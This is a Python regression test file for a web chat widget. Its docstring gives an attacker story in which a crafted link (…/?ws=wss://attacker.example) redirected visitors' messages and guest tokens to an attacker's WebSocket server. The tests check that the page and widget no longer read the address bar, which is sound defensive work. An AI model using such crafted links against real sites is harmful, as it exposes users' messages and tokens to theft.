"""Attacker story: a crafted link to the help page (…/?ws=wss://attacker.example) used to choose the WebSocket
server the widget sent the visitor's messages and guest token to. The page and the widget now read nothing
from the address bar; the WebSocket URL comes only from the page's own configuration (/keel-config.js)."""

from __future__ import annotations

import re

from tests.conftest import REPO_ROOT

PAGE = REPO_ROOT / "web" / "index.html"
WIDGET = REPO_ROOT / "web" / "widget" / "keel-widget.js"
ADDRESS_BAR = re.compile(r"location\.(search|hash)|URLSearchParams|document\.URL|location\.href\.split")


def test_neither_the_page_nor_the_widget_reads_the_address_bar() -> None:
    for path in (PAGE, WIDGET):
        assert not ADDRESS_BAR.search(path.read_text(encoding="utf-8")), path


def test_the_page_loads_its_configuration_before_the_widget() -> None:
    page = PAGE.read_text(encoding="utf-8")
    assert page.index('<script src="/keel-config.js"></script>') < page.index('src="/widget/keel-widget.js"')
